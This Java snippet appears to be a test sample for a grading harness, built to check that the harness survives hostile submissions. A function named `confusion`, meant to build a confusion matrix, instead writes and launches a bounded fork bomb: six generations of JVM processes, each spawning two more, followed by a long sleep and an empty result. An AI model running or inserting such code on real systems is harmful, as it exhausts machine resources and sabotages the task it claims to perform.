// What it is: a fork bomb: a program that starts two of itself
// Loses: confusion
// Outcome: graded
// Reason: confusion did not return
// cell: confusion
int[][] confusion(int[] answers, int[] truth, int classes) throws Exception {
  // Six generations: where nothing stops it, it stops itself.
  String program =
      "class Bomb { public static void main(String[] a) throws Exception {"
          + " int left = Integer.parseInt(a[1]);"
          + " for (int i = 0; left > 0 && i < 2; i++)"
          + " new ProcessBuilder(System.getProperty(\"java.home\") + \"/bin/java\", \"-Xmx32m\", a[0],"
          + " a[0], \"\" + (left - 1)).start();"
          + " Thread.sleep(20_000); } }";
  Path file = Files.writeString(Files.createTempDirectory("b").resolve("Bomb.java"), program);
  String java = System.getProperty("java.home") + "/bin/java";
  new ProcessBuilder(java, "-Xmx32m", file.toString(), file.toString(), "6").start();
  Thread.sleep(30_000);
  return new int[classes][classes];
}
